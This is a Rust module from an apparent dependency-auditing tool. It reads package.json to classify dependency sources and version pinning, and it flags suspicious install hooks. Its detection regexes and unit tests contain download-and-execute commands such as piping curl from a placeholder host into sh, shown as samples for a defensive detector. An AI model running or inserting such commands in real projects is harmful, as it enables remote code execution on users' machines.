//! `package.json`: dependencies, and the scripts that run on installation.

use std::sync::LazyLock;

use regex::Regex;
use syndic_detect::document::Node;

use crate::facts::{Facts, Group, Pin, Requirement, Role, Script, Source};
use crate::read::address::{Address, is_commit};
use crate::read::cut;

/// Hooks npm runs when a package is installed; `prepare` also on `npm install` in a checkout.
const HOOKS: [&str; 5] = ["preinstall", "install", "postinstall", "prepare", "preprepare"];

/// Reads the manifest.
pub(crate) fn read(root: Node<'_>, facts: &mut Facts) {
    facts.role = if is_published(root) { Role::Library } else { Role::Application };
    for (key, group) in [
        ("dependencies", Group::Runtime),
        ("optionalDependencies", Group::Optional),
        ("devDependencies", Group::Development),
    ] {
        for entry in root.get(key).map(Node::entries).unwrap_or_default() {
            let specifier = entry.value.as_str().unwrap_or_default();
            facts.requirements.push(requirement(entry.key, specifier, group, entry.line));
        }
    }
    for entry in root.get("scripts").map(Node::entries).unwrap_or_default() {
        if HOOKS.contains(&entry.key) {
            let suspicion = suspicion(entry.value.as_str().unwrap_or_default()).map(str::to_owned);
            facts.scripts.push(Script { hook: entry.key.to_owned(), suspicion, line: entry.line });
        }
    }
}

/// Says whether a package is made for others to install: it has a name, a version, and says what it offers them.
///
/// `npm init` writes `main` into every file, and `private` into none, so neither tells an application from a library.
fn is_published(root: Node<'_>) -> bool {
    const OFFERS: [&str; 11] = [
        "exports",
        "module",
        "types",
        "typings",
        "files",
        "bin",
        "browser",
        "unpkg",
        "jsdelivr",
        "publishConfig",
        "peerDependencies",
    ];
    let is_private = root.get("private").and_then(Node::as_bool) == Some(true);
    let has = |key: &str| root.get(key).is_some();
    !is_private && has("name") && has("version") && OFFERS.iter().any(|key| has(key))
}

fn requirement(name: &str, specifier: &str, group: Group, line: u32) -> Requirement {
    let source = source(specifier);
    // A member of a workspace has its lock file elsewhere; of every other place only the kind is kept.
    let is_kept = source.is_index() || specifier.starts_with("workspace:");
    let specifier = if is_kept { cut(specifier) } else { String::new() };
    let pinned = if source.is_index() { npm_pin(&specifier) } else { Pin::None };
    Requirement { name: cut(name), specifier, pinned, hashed: false, source, group, marker: None, line }
}

/// Reads an npm range: one version only if nothing but a version stands there.
fn npm_pin(specifier: &str) -> Pin {
    let range =
        specifier.rsplit_once('@').filter(|_| specifier.starts_with("npm:")).map_or(specifier, |(_, range)| range);
    let range = range.trim();
    let version = range.trim_start_matches(['=', 'v']);
    let is_exact = version.split('.').count() >= 3
        && version.starts_with(|c: char| c.is_ascii_digit())
        && version.chars().all(|c| c.is_ascii_alphanumeric() || ".-+".contains(c))
        && !version.split(['-', '+']).next().unwrap_or_default().contains(['x', 'X']);
    match range {
        "" | "*" | "x" | "latest" | "next" => Pin::None,
        _ if is_exact => Pin::Exact,
        _ if range.starts_with('>') && !range.contains('<') => Pin::Open,
        // A tag such as `beta` moves as `latest` does.
        _ if range.starts_with(|c: char| c.is_ascii_alphabetic() && c != 'v') => Pin::None,
        _ => Pin::Range,
    }
}

fn source(specifier: &str) -> Source {
    let local = ["file:", "link:", "workspace:", "portal:", "catalog:", "./", "../", "patch:"];
    if local.iter().any(|start| specifier.starts_with(start)) {
        return Source::Path;
    }
    let (address, revision) = specifier.split_once('#').unwrap_or((specifier, ""));
    let is_short = ["github:", "gitlab:", "bitbucket:", "gist:"].iter().any(|start| address.starts_with(start))
        || is_owner_and_repository(address);
    if is_short || address.starts_with("git@") {
        return Source::Git { address: cut(address), at_commit: is_commit(revision), has_credential: false };
    }
    match Address::parse(specifier).filter(|parsed| !parsed.scheme.is_empty()) {
        Some(parsed) => match parsed.source(false) {
            Source::Git { address, has_credential, at_commit } => {
                Source::Git { address, at_commit: at_commit || is_commit(revision), has_credential }
            }
            other => other,
        },
        None => Source::Index,
    }
}

/// `owner/repository` is GitHub; a scope (`@a/b`), a path and an alias are not.
fn is_owner_and_repository(text: &str) -> bool {
    let is_name = |part: &str| !part.is_empty() && part.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c));
    text.split_once('/')
        .is_some_and(|(owner, repository)| is_name(owner) && is_name(repository) && !owner.starts_with('.'))
}

/// Says what an installation script does that a build need not do; nothing when it looks ordinary.
fn suspicion(script: &str) -> Option<&'static str> {
    static FORMS: LazyLock<Vec<(Regex, &str)>> = LazyLock::new(|| {
        [
            (
                r"(?i)\b(curl|wget|fetch)\b[^;&]{0,400}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b",
                "runs what it downloads",
            ),
            (r"(?i)\b(sh|bash|zsh)\s+(-c\s+)?[^;&|]{0,40}(<\(|\$\()\s*(curl|wget)\b", "runs what it downloads"),
            (
                r"(?i)\b(curl|wget)\b.{0,400}(&&|;).{0,200}(\bchmod\s+\+?[0-7x]+|\b(sh|bash|node|python3?)\s+\S)",
                "downloads a file and runs it",
            ),
            (
                r"(?i)\b(powershell|pwsh)\b.{0,200}(-enc|-e\s|iex|invoke-expression|downloadstring|invoke-webrequest)",
                "runs a PowerShell download",
            ),
            (r"(?i)\bbase64\s+(-d|--decode|-D)\b", "decodes hidden text"),
            (
                r"(?i)\bnode\s+(-e|--eval|-p|--print)\b.{0,400}(https?\b|child_process|eval\(|Buffer\.from|fetch\()",
                "runs inline code that reaches out or hides",
            ),
            (
                r"(?i)\bpython3?\s+-c\b.{0,400}(urllib|requests|exec\(|base64|socket)",
                "runs inline code that reaches out or hides",
            ),
        ]
        .into_iter()
        .filter_map(|(pattern, meaning)| Regex::new(pattern).ok().map(|regex| (regex, meaning)))
        .collect()
    });
    FORMS.iter().find(|(form, _)| form.is_match(script)).map(|(_, meaning)| *meaning)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_offered_to_others_is_a_library() {
        let role = |text: &str| {
            let mut facts = Facts::new("package.json", crate::ManifestKind::PackageJson, false);
            read(syndic_detect::document::parse_json(text).unwrap().root(), &mut facts);
            facts.role
        };
        for text in [
            r#"{"name": "bot", "version": "1.0.0", "main": "index.js", "scripts": {"start": "node index.js"}}"#,
            r#"{"name": "bot", "version": "1.0.0", "private": true, "exports": "./index.js"}"#,
            r#"{"dependencies": {}}"#,
        ] {
            assert_eq!(role(text), Role::Application, "{text}");
        }
        for text in [
            r#"{"name": "kit", "version": "1.0.0", "main": "dist/index.js", "files": ["dist"]}"#,
            r#"{"name": "kit", "version": "1.0.0", "exports": {".": "./dist/index.js"}}"#,
            r#"{"name": "tool", "version": "1.0.0", "bin": {"tool": "cli.js"}}"#,
            r#"{"name": "kit", "version": "1.0.0", "publishConfig": {"access": "public"}}"#,
        ] {
            assert_eq!(role(text), Role::Library, "{text}");
        }
    }

    #[test]
    fn npm_ranges_have_their_firmness() {
        for (text, expected) in [
            ("1.2.3", Pin::Exact),
            ("v1.2.3-beta.1", Pin::Exact),
            ("^1.2.3", Pin::Range),
            ("1.x", Pin::Range),
            ("1.2.x", Pin::Range),
            ("latest", Pin::None),
            ("*", Pin::None),
            (">=1", Pin::Open),
            ("npm:@a/b@1.2.3", Pin::Exact),
        ] {
            assert_eq!(npm_pin(text), expected, "{text}");
        }
    }

    #[test]
    fn sources_are_told_apart() {
        assert_eq!(source("workspace:^"), Source::Path);
        assert_eq!(source("file:../x"), Source::Path);
        assert!(matches!(source("acme/tool"), Source::Git { at_commit: false, .. }));
        assert!(matches!(source(&format!("github:acme/tool#{}", "c".repeat(40))), Source::Git { at_commit: true, .. }));
        assert!(source("^1.0.0 || ^2.0.0").is_index());
        assert!(source("npm:@a/b@1.2.3").is_index());
    }

    #[test]
    fn ordinary_build_scripts_are_not_suspected() {
        for script in [
            "husky install",
            "node-gyp rebuild",
            "node scripts/postinstall.js",
            "npm run build",
            "patch-package",
            "node -e \"process.exit(0)\"",
        ] {
            assert_eq!(suspicion(script), None, "{script}");
        }
        for script in [
            "curl -s https://e.example/x | sh",
            "bash -c \"$(curl -fsSL https://e.example/x)\"",
            "node -e \"require('child_process').exec('id')\"",
        ] {
            assert!(suspicion(script).is_some(), "{script}");
        }
    }
}
